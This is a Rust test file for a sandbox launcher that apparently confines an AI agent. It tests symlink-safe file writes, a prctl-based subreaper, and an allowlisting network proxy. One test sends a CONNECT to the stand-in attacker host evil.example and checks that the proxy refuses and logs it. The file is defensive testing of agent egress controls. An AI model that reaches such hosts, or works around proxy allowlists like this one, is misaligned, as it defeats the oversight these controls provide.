    for mode in ["resident", "tools"] {
        let dir = w.join(mode);
        fs::create_dir(&dir).unwrap();
        let outside = w.join(format!("{mode}-outside"));
        fs::write(&outside, "the user's file\n").unwrap();
        std::os::unix::fs::symlink(&outside, dir.join("notes.tmp")).unwrap();
        let body = r#"
dir=$1
[[ $2 == resident ]] && orbit_hasher_start
text=$'KEY=1\nSECOND=two words\n'
state_put "$dir/notes.tmp" "$text" || exit 3
state_mv "$dir/notes.tmp" "$dir/notes.md" || exit 4
[[ ! -e $dir/notes.tmp ]] || exit 5
REPLY=kept
state_write_file "$dir/state.env" "$text" || exit 6
[[ $REPLY == kept ]] || exit 7
if state_put "$dir/no-such-dir/f" x 2>/dev/null; then exit 8; fi
orbit_hasher_args_v $'a\nb\nc' $'a\nc\nd'
if [[ $2 == resident ]]; then
  orbit_hasher_ask_v D "$REPLY" || exit 9
  printf '%s' "$REPLY" >"$dir/diff"
  # The processes whose environment holds a marker (as sweep_env asks): a child's, once its
  # exec has put the marker there; the shell that started it has none.
  ORBIT_T_MARK=$dir sleep 60 &
  sp=$!
  for ((i = 0; i < 1000; i++)); do
    grep -qzxF -- "ORBIT_T_MARK=$dir" "/proc/$sp/environ" 2>/dev/null && break
    sleep 0.01
  done
  orbit_hasher_args_v "ORBIT_T_MARK=$dir"
  orbit_hasher_ask_v E "$REPLY" || exit 11
  kill "$sp"
  [[ $REPLY == "/proc/$sp/environ" ]] || { echo "E answered: $REPLY (want /proc/$sp/environ)" >&2; exit 12; }
  orbit_hasher_alive || exit 10
fi
"#;
        let out = crate::support::bash_with_parts(w, &["common", "state"], body)
            .arg(&dir)
            .arg(mode)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{mode}: {:?} {}",
            out.status.code(),
            String::from_utf8_lossy(&out.stderr)
        );
        let text = "KEY=1\nSECOND=two words\n";
        assert_eq!(
            fs::read_to_string(&outside).unwrap(),
            "the user's file\n",
            "{mode}: written through a link"
        );
        assert_eq!(
            fs::read_to_string(dir.join("notes.md")).unwrap(),
            text,
            "{mode}"
        );
        assert!(
            !fs::symlink_metadata(dir.join("notes.md"))
                .unwrap()
                .file_type()
                .is_symlink()
        );
        assert_eq!(
            fs::read_to_string(dir.join("state.env")).unwrap(),
            text,
            "{mode}"
        );
        if mode == "resident" {
            assert_eq!(
                fs::read_to_string(dir.join("diff")).unwrap(),
                "< b\n> d",
                "lines only before, then only after"
            );
        }
    }
}

/// prctl's syscall number where the runner knows it (lib/runner/reaper.sh `reaper_nr_v`).
fn prctl_nr() -> Option<&'static str> {
    match std::env::consts::ARCH {
        "x86_64" => Some("157"),
        "aarch64" | "riscv64" => Some("167"),
        _ => None,
    }
}

/// The subreaper exec on its own: granted, the command runs with ORBIT_SUBREAPER=1 as the
/// same process (its arguments intact), and the kernel says that process is a child
/// subreaper; with a number that is not prctl's, it runs with ORBIT_SUBREAPER as it was and
/// is none; a command that cannot start ends it with 127 and nothing said.
#[test]
fn the_reaper_execs_the_command_marked_when_granted_and_silently_fails_with_127() {
    if !perl_here() {
        return;
    }
    let Some(nr) = prctl_nr() else {
        eprintln!("notice: no prctl number known on this machine; skipping");
        return;
    };
    let run = |nr: &str, cmd: &[&str]| {
        command("perl")
            .arg("-e")
            .arg(orbit::render::PERL_REAPER)
            .arg(nr)
            .args(cmd)
            .env("ORBIT_SUBREAPER", "0")
            .output()
            .unwrap()
    };
    let sh = [
        "/bin/sh",
        "-c",
        "echo \"$ORBIT_SUBREAPER $0 $1\"",
        "a b",
        "c",
    ];
    let out = run(nr, &sh);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "1 a b c\n");
    assert!(out.status.success() && out.stderr.is_empty());
    // getpid (39 on x86_64, 172 on aarch64) answers a pid, not 0: nothing granted.
    let getpid = if nr == "157" { "39" } else { "172" };
    let out = run(getpid, &sh);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "0 a b c\n");
    // What the kernel says of the process the command runs as (the same pid, after exec):
    // prctl(PR_GET_CHILD_SUBREAPER = 37) answers 1 when the reaper was granted, 0 when not.
    let perl = String::from_utf8(
        command("bash")
            .args(["-c", "type -P perl"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let ask = format!(
        "my $v = pack(\"i\", 7); syscall({nr}, 37, $v, 0, 0, 0) == 0 or die \"prctl: $!\"; print unpack(\"i\", $v), \" $ENV{{ORBIT_SUBREAPER}}\\n\""
    );
    let asked = run(nr, &[perl.trim(), "-e", &ask]);
    assert_eq!(
        String::from_utf8_lossy(&asked.stdout),
        "1 1\n",
        "{}",
        String::from_utf8_lossy(&asked.stderr)
    );
    let asked = run(getpid, &[perl.trim(), "-e", &ask]);
    assert_eq!(String::from_utf8_lossy(&asked.stdout), "0 0\n");
    let out = run(nr, &["/nonexistent/orbit-no-such-command"]);
    assert_eq!(out.status.code(), Some(127));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "", "nothing said");
}

/// The network proxy on its own, started as the launcher starts it (`proxy SOCKET LOG LABEL
/// ALLOWED...`, its stdin a pipe held here, its stderr into the log): the proxy, its socket
/// and its log.
fn start_proxy(dir: &Path, allow: &[&str]) -> (std::process::Child, PathBuf, PathBuf) {
    let sock = dir.join("proxy.sock");
    let log = dir.join("net.log");
    let proxy = command("perl")
        .arg("-e")
        .arg(orbit::render::PERL_NET)
        .args(["proxy"])
        .arg(&sock)
        .arg(&log)
        .arg("3:agent")
        .args(allow)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(
            fs::OpenOptions::new()
                .create(true)
                .append(true)
                .open(&log)
                .unwrap(),
        )
        .spawn()
        .unwrap();
    (proxy, sock, log)
}

/// A connection to the proxy's socket, which appears (renamed into place) once it listens:
/// looked for every 25 ms, for a minute at most (a safety net for a busy machine, not a
/// measure); reads on it give up after a minute.
fn proxy_connect(
    proxy: &mut std::process::Child,
    sock: &Path,
    log: &Path,
) -> std::os::unix::net::UnixStream {
    for _ in 0..2400 {
        if let Ok(s) = std::os::unix::net::UnixStream::connect(sock) {
            s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
                .unwrap();
            return s;
        }
        if proxy.try_wait().unwrap().is_some() {
            panic!("the proxy ended: {}", fs::read_to_string(log).unwrap());
        }
        std::thread::park_timeout(std::time::Duration::from_millis(25));
    }
    panic!(
        "the proxy does not listen: {}",
        fs::read_to_string(log).unwrap()
    );
}

/// The proxy's log lines, each without its time (checked to be one).
fn proxy_log(log: &Path) -> Vec<String> {
    fs::read_to_string(log)
        .unwrap()
        .lines()
        .map(|l| {
            let (when, rest) = l.split_once(' ').unwrap();
            assert!(when.parse::<u64>().is_ok(), "{l}");
            rest.to_string()
        })
        .collect()
}

/// The network proxy on its own: a CONNECT to a host off its allowlist is refused with 403
/// and one line in its log (when, the run's label, the host and port), and it ends when its
/// stdin (the launcher's pipe) closes, its log holding that line alone.
#[test]
fn the_proxy_refuses_a_host_off_its_allowlist_and_logs_only_that() {
    if !perl_here() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (mut proxy, sock, log) = start_proxy(dir.path(), &["api.example.com"]);
    let mut s = proxy_connect(&mut proxy, &sock, &log);
    s.write_all(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
        .unwrap();
    let mut reply = String::new();
    s.read_to_string(&mut reply).unwrap();
    assert!(reply.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{reply}");
    assert!(
        reply.contains("orbit init --allow-host evil.example:443"),
        "{reply}"
    );
    drop(proxy.stdin.take());
    let status = proxy.wait().unwrap();
    assert!(status.success(), "{status:?}");
    assert_eq!(proxy_log(&log), ["3:agent refused evil.example:443"]);
    assert!(!sock.exists(), "the proxy takes its socket away");
}

/// The proxy lets a host on its allowlist through, both ways: a CONNECT tunnel to a server
/// here (127.0.0.1 on the port allowed) carries bytes each way, and an http:// request
/// reaches it as an origin request (its path alone, the proxy's own headers left out, the
/// connection closed after it); the same host on another port is refused. Only the refusal
/// is logged.
#[test]
fn the_proxy_passes_a_host_on_its_allowlist_both_ways_and_logs_nothing_of_it() {
    if !perl_here() {
        return;
    }
    let upstream = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = upstream.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let minute = Some(std::time::Duration::from_secs(60));
        // The tunnel: "ping" in, "pong" out.
        let (mut c, _) = upstream.accept().unwrap();
        c.set_read_timeout(minute).unwrap();
        let mut ping = [0u8; 4];
        c.read_exact(&mut ping).unwrap();
        c.write_all(b"pong").unwrap();
        drop(c);
        // The http:// request: its head sent back as the body.
        let (mut c, _) = upstream.accept().unwrap();
        c.set_read_timeout(minute).unwrap();
        let mut head = Vec::new();
        let mut b = [0u8; 1];
        while !head.ends_with(b"\r\n\r\n") {
            c.read_exact(&mut b).unwrap();
            head.push(b[0]);
        }
        c.write_all(b"HTTP/1.0 200 OK\r\n\r\n").unwrap();
        c.write_all(&head).unwrap();
        ping
    });
    let dir = tempfile::tempdir().unwrap();
    let allowed = format!("127.0.0.1:{port}");
    let (mut proxy, sock, log) = start_proxy(dir.path(), &["api.example.com", &allowed]);

    let mut s = proxy_connect(&mut proxy, &sock, &log);
    s.write_all(format!("CONNECT {allowed} HTTP/1.1\r\nHost: {allowed}\r\n\r\n").as_bytes())
        .unwrap();
    let established = b"HTTP/1.1 200 Connection established\r\n\r\n";
    let mut got = vec![0u8; established.len()];
    s.read_exact(&mut got).unwrap();
    assert_eq!(
        String::from_utf8_lossy(&got),
        String::from_utf8_lossy(established)
    );
    s.write_all(b"ping").unwrap();
    let mut pong = String::new();
    s.read_to_string(&mut pong).unwrap();
    assert_eq!(pong, "pong");
    drop(s);

    let mut s = proxy_connect(&mut proxy, &sock, &log);
    s.write_all(
        format!(
            "GET http://{allowed}/a?b=1 HTTP/1.1\r\nHost: {allowed}\r\nProxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nAccept: */*\r\n\r\n"
        )
        .as_bytes(),
    )
    .unwrap();
    let mut reply = String::new();
    s.read_to_string(&mut reply).unwrap();
    assert_eq!(
        reply,
        format!(
            "HTTP/1.0 200 OK\r\n\r\nGET /a?b=1 HTTP/1.1\r\nHost: {allowed}\r\nAccept: */*\r\nConnection: close\r\n\r\n"
        )
    );
    assert_eq!(&server.join().unwrap(), b"ping");

    let other = format!("127.0.0.1:{}", if port == 65535 { 1 } else { port + 1 });
    let mut s = proxy_connect(&mut proxy, &sock, &log);
    s.write_all(format!("CONNECT {other} HTTP/1.1\r\n\r\n").as_bytes())
        .unwrap();
    let mut refused = String::new();
    s.read_to_string(&mut refused).unwrap();
    assert!(
        refused.starts_with("HTTP/1.1 403 Forbidden\r\n"),
        "{refused}"
    );

    drop(proxy.stdin.take());
    assert!(proxy.wait().unwrap().success());
    assert_eq!(proxy_log(&log), [format!("3:agent refused {other}")]);
}
